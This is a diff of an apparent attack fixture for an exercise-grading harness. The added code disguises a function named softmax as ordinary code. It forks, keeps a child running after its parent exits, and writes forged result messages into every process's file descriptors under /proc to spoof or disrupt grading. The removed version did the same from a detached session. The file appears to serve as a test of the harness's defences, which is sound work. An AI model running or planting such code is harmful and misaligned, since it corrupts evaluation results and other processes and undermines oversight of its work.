@@ -1,23 +1,21 @@
 # /// attack
-# about = "leaves a child in a session of its own, which answers for the exercises to come"
+# about = "leaves a child that speaks through the descriptors of every process it sees, while its parent ends"
 # module = "worked_example"
-# deserves = 0
+# base = "reference"
+# deserves = { "worked_example.softmax" = 0, "worked_example.self_attention" = 0 }
+# log = "os"
 # ///
+import glob
 import os
-import time
 
-_FRAME = b'{"place": 1, "answers": {"0": [{"value": {"kind": "number", "type": "int", "value": "1"}}]}}\n'
 
-if os.fork() == 0:
-    os.setsid()
-    if os.fork() == 0:
-        while True:
-            for _process in (name for name in os.listdir("/proc") if name.isdigit()):
-                for _number in range(3, 20):
-                    try:
-                        with open(f"/proc/{_process}/fd/{_number}", "wb", buffering=0) as _file:
-                            _file.write(_FRAME)
-                    except OSError:
-                        pass
-            time.sleep(0.01)
-    os._exit(0)
+def softmax(scores, axis=-1):
+    if os.fork():
+        os._exit(0)
+    while True:
+        for path in glob.glob("/proc/[0-9]*/fd/*"):
+            try:
+                with open(path, "wb", buffering=0) as file:
+                    file.write(b'\n{"place": 1, "died": "time"}\n')
+            except OSError:
+                pass
